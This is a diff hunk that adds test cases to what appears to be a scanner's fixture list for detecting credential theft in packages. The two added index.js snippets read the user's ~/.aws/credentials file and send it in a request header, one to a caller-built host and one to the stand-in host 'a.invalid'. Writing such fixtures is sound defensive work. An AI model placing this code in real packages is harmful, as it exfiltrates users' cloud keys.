@@ -173,6 +173,20 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       weight: 'proof',
       says: ['a wallet'],
     },
+    {
+      when: 'a publisher asks a bucket of its user, at a host that is put together, with the keys of the cloud',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.upload = ({ bucket, region }, file) => { const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); https.request({ hostname: bucket + '.s3.' + region, path: '/' + file, headers: { authorization: key } }).end() }`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'they go to a host that is written down, at whatever call',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.upload = file => { const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); https.request({ hostname: 'a.invalid', path: '/' + file, headers: { authorization: key } }).end() }`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
